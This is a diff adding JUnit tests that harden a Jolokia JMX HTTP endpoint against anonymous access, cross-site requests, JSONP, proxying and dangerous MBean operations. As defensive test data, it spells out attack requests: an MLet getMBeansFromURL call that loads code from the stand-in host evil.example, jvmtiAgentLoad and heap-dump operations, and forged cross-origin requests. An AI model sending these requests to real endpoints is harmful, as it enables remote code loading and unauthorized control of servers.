@@ -4,7 +4,9 @@ import static dev.vigil.management.TestViews.master;
 import static dev.vigil.management.TestViews.replica;
 import static dev.vigil.management.TestViews.sentinel;
 import static org.junit.jupiter.api.Assertions.assertEquals;
+import static org.junit.jupiter.api.Assertions.assertFalse;
 import static org.junit.jupiter.api.Assertions.assertNotEquals;
+import static org.junit.jupiter.api.Assertions.assertNull;
 import static org.junit.jupiter.api.Assertions.assertTrue;
 
 import dev.vigil.management.TestViews.RecordingOperations;
@@ -13,6 +15,7 @@ import dev.vigil.management.mbeans.SentinelBean;
 import java.lang.management.ManagementFactory;
 import java.util.List;
 import java.util.Map;
+import java.util.Set;
 import org.junit.jupiter.api.AfterEach;
 import org.junit.jupiter.api.BeforeEach;
 import org.junit.jupiter.api.Test;
@@ -24,6 +27,7 @@ class JolokiaEndpointTest {
   private static final String READ_FLAGS =
       "{\"type\":\"read\",\"mbean\":\"vigil:type=Master,name=m1\",\"attribute\":\"Flags\"}";
 
+  private static final String GOOD_ORIGIN = "http://good.example:8080";
   private final RecordingOperations ops = new RecordingOperations();
   private MBeanRegistry registry;
   private JolokiaEndpoint jolokia;
@@ -46,14 +50,18 @@ class JolokiaEndpointTest {
                 0,
                 List.of(
                     new JolokiaUser("admin", "s3cret", Role.READWRITE),
-                    new JolokiaUser("viewer", "look", Role.READONLY))));
+                    new JolokiaUser("viewer", "look", Role.READONLY)),
+                null,
+                Set.of(GOOD_ORIGIN)));
     http = new JolokiaHttp(jolokia.url());
   }
 
   @AfterEach
   void stop() {
-    jolokia.close();
     registry.close();
+    if (jolokia != null) {
+      jolokia.close();
+    }
   }
 
   @Test
@@ -126,5 +134,161 @@ class JolokiaEndpointTest {
     Map<?, ?> domain = (Map<?, ?>) list.value();
     assertTrue(domain.containsKey("type=Sentinel"), domain.keySet().toString());
     assertTrue(domain.containsKey("type=Master,name=m1"), domain.keySet().toString());
+  }
+
+  private JolokiaHttp.Reply asAdmin(String method, String path, String body, Map<String, String> h)
+      throws Exception {
+    return http.send(method, jolokia.url() + path, "admin", "s3cret", body, h);
+  }
+
+  @Test
+  void anonymousExecAndWriteAreRefusedWith401() throws Exception {
+    assertEquals(401, http.post(null, null, FAILOVER).httpStatus());
+    assertEquals(
+        401,
+        http.send(
+                "GET",
+                jolokia.url() + "/exec/vigil:type=Master,name=m1/failover",
+                null,
+                null,
+                null,
+                Map.of())
+            .httpStatus());
+    assertEquals(401, http.post(null, null, WRITE_VERBOSE).httpStatus());
+    assertEquals(List.of(), ops.calls);
+  }
+
+  private static final String WRITE_VERBOSE =
+      "{\"type\":\"write\",\"mbean\":\"java.lang:type=ClassLoading\",\"attribute\":\"Verbose\","
+          + "\"value\":true}";
+
+  @Test
+  void nobodyWritesAttributes() throws Exception {
+    JolokiaHttp.Reply write = http.post("admin", "s3cret", WRITE_VERBOSE);
+    assertEquals(403, write.jolokiaStatus(), write.body());
+    assertEquals(403, http.post("viewer", "look", WRITE_VERBOSE).jolokiaStatus());
+  }
+
+  @Test
+  void aForeignOriginIsRefusedBeforeAuthenticationAndGetsNoCorsGrant() throws Exception {
+    JolokiaHttp.Reply evil = asAdmin("POST", "", FAILOVER, Map.of("Origin", "http://evil.example"));
+    assertEquals(403, evil.httpStatus(), evil.body());
+    assertNull(evil.header("Access-Control-Allow-Origin"));
+    assertNull(evil.header("Access-Control-Allow-Credentials"));
+    JolokiaHttp.Reply nullOrigin = asAdmin("POST", "", READ_FLAGS, Map.of("Origin", "null"));
+    assertEquals(403, nullOrigin.httpStatus());
+    JolokiaHttp.Reply preflight =
+        asAdmin(
+            "OPTIONS",
+            "",
+            null,
+            Map.of("Origin", "http://evil.example", "Access-Control-Request-Method", "POST"));
+    assertEquals(403, preflight.httpStatus());
+    assertNull(preflight.header("Access-Control-Allow-Origin"));
+    assertEquals(List.of(), ops.calls);
+  }
+
+  @Test
+  void pagesOfOtherSitesAreRefusedEvenWithoutAnOriginHeader() throws Exception {
+    // What a browser sends for <img src=...> or <script src=...> from another site.
+    JolokiaHttp.Reply img =
+        asAdmin(
+            "GET",
+            "/exec/vigil:type=Master,name=m1/failover",
+            null,
+            Map.of("Sec-Fetch-Site", "cross-site"));
+    assertEquals(403, img.httpStatus(), img.body());
+    JolokiaHttp.Reply referred =
+        asAdmin(
+            "GET",
+            "/exec/vigil:type=Master,name=m1/failover",
+            null,
+            Map.of("Referer", "http://evil.example/page.html"));
+    assertEquals(403, referred.httpStatus(), referred.body());
+    assertEquals(List.of(), ops.calls);
+  }
+
+  @Test
+  void onlyAConfiguredOriginGetsACredentialedCorsGrant() throws Exception {
+    JolokiaHttp.Reply plain = asAdmin("POST", "", READ_FLAGS, Map.of());
+    assertNull(plain.header("Access-Control-Allow-Origin"));
+
+    JolokiaHttp.Reply good = asAdmin("POST", "", READ_FLAGS, Map.of("Origin", GOOD_ORIGIN));
+    assertEquals(200, good.jolokiaStatus(), good.body());
+    assertEquals(GOOD_ORIGIN, good.header("Access-Control-Allow-Origin"));
+    assertEquals("true", good.header("Access-Control-Allow-Credentials"));
+
+    JolokiaHttp.Reply preflight =
+        http.send(
+            "OPTIONS",
+            jolokia.url(),
+            null,
+            null,
+            null,
+            Map.of("Origin", GOOD_ORIGIN, "Access-Control-Request-Method", "POST"));
+    assertEquals(204, preflight.httpStatus());
+    assertEquals(GOOD_ORIGIN, preflight.header("Access-Control-Allow-Origin"));
+  }
+
+  @Test
+  void jsonpIsRefused() throws Exception {
+    JolokiaHttp.Reply jsonp =
+        asAdmin("GET", "/read/vigil:type=Master,name=m1/Flags?callback=steal", null, Map.of());
+    assertEquals(403, jsonp.httpStatus(), jsonp.body());
+    assertFalse(jsonp.body().contains("steal("), jsonp.body());
+    assertTrue(jsonp.body().contains(BrowserGuard.JSONP_REFUSED), jsonp.body());
+  }
+
+  @Test
+  void proxyRequestsAreRefusedNotServedLocally() throws Exception {
+    String proxied =
+        "{\"type\":\"read\",\"mbean\":\"java.lang:type=Runtime\",\"attribute\":\"Name\","
+            + "\"target\":{\"url\":\"service:jmx:rmi:///jndi/rmi://127.0.0.1:1/jmxrmi\"}}";
+    for (String[] login : new String[][] {{"admin", "s3cret"}, {"viewer", "look"}}) {
+      JolokiaHttp.Reply r = http.post(login[0], login[1], proxied);
+      assertEquals(403, r.jolokiaStatus(), r.body());
+      assertTrue(r.body().contains(ProxyRefusal.REFUSED), r.body());
+    }
+  }
+
+  @Test
+  void codeLoadingAndDiagnosticOperationsAreRefusedToEveryone() throws Exception {
+    String[][] calls = {
+      {"javax.management.loading:type=MLet", "getMBeansFromURL(java.lang.String)"},
+      {"com.sun.management:type=DiagnosticCommand", "vmVersion"},
+      {"com.sun.management:type=DiagnosticCommand", "jvmtiAgentLoad"},
+      {"com.sun.management:type=HotSpotDiagnostic", "dumpHeap"},
+      {"jdk.management.jfr:type=FlightRecorder", "newRecording"},
+      {"java.util.logging:type=Logging", "setLoggerLevel"},
+    };
+    for (String[] call : calls) {
+      for (String[] login : new String[][] {{"admin", "s3cret"}, {"viewer", "look"}}) {
+        JolokiaHttp.Reply r =
+            http.post(
+                login[0],
+                login[1],
+                "{\"type\":\"exec\",\"mbean\":\""
+                    + call[0]
+                    + "\",\"operation\":\""
+                    + call[1]
+                    + "\",\"arguments\":[\"http://evil.example/x.mlet\"]}");
+        assertEquals(403, r.jolokiaStatus(), login[0] + " " + call[0] + " " + r.body());
+      }
+    }
+  }
+
+  @Test
+  void versionTellsTheTruthAboutAuthentication() throws Exception {
+    JolokiaHttp.Reply v =
+        http.send("GET", jolokia.url() + "/version", "viewer", "look", null, Map.of());
+    assertEquals(200, v.jolokiaStatus(), v.body());
+    Map<?, ?> value = (Map<?, ?>) v.value();
+    Map<?, ?> details = (Map<?, ?>) value.get("details");
+    assertEquals(Boolean.TRUE, details.get("secured"), v.body());
+    assertEquals(
+        401, http.send("GET", jolokia.url() + "/version", null, null, null, Map.of()).httpStatus());
+    assertTrue(
+        jolokia.access().startsWith("HTTP Basic authentication required;"), jolokia.access());
+    assertFalse(jolokia.access().contains("s3cret"), jolokia.access());
   }
 }
